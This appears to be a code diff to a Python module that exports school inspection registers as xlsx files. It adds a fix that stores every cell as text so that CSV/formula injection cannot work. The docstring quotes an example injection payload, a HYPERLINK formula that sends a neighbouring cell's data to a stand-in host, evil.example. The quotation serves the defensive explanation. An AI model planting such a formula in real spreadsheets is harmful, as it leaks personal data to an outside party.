@@ -1,5 +1,10 @@
 """Registers for inspectors: xlsx laid out like the paper register (title, campus, period, a
-bordered table, signature line). Every app's export calls ``xlsx_register``."""
+bordered table, signature line). Every app's export calls ``xlsx_register``; a table that is read
+back in (the roster) is written by ``dataset_xlsx``.
+
+Every text is written as a text cell, never as a formula: a child named
+``=HYPERLINK("http://evil.example/?d="&B5,"点我")`` is that name in Excel and WPS, not a live link
+that sends the row next to it away, and it reads back unchanged (``text_cells``)."""
 
 import io
 
@@ -19,7 +24,7 @@ def xlsx_register(title: str, campus, period: str, headers: list, rows, signatur
     """The register as xlsx bytes. ``rows`` is an iterable of lists of cell values."""
     wb = Workbook()
     ws = wb.active
-    ws.title = title[:31]
+    ws.title = _sheet_title(title)
     width = max(len(headers), 1)
     ws.append([title])
     ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
@@ -47,9 +52,39 @@ def xlsx_register(title: str, campus, period: str, headers: list, rows, signatur
         ws.column_dimensions[get_column_letter(index)].width = w + 2
     ws.append([])
     ws.append(signatures or [_("Recorded by:"), "", _("Checked by:"), "", _("Date:")])
+    text_cells(ws)
     ws.print_title_rows = "3:3"
     ws.page_setup.orientation = "landscape"
     ws.page_setup.fitToWidth = 1
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return buffer.getvalue()
+
+
+def _sheet_title(title) -> str:
+    from tablib.formats._xlsx import safe_xlsx_sheet_title
+
+    return safe_xlsx_sheet_title(str(title or "Sheet1"))
+
+
+def text_cells(ws) -> None:
+    """Make every cell openpyxl took for a formula (a str starting with ``=``) a text cell."""
+    for row in ws.iter_rows():
+        for cell in row:
+            if cell.data_type == "f":
+                cell.data_type = "s"
+
+
+def dataset_xlsx(dataset, title: str = "") -> bytes:
+    """A tablib Dataset as xlsx, laid out as tablib does (bold header row, frozen below it), texts as text."""
+    from tablib.formats._xlsx import XLSXFormat
+
+    wb = Workbook()
+    ws = wb.active
+    ws.title = _sheet_title(title or dataset.title)
+    XLSXFormat.dset_sheet(dataset, ws)
+    XLSXFormat._adapt_column_width(ws, "adaptive")
+    text_cells(ws)
     buffer = io.BytesIO()
     wb.save(buffer)
     return buffer.getvalue()
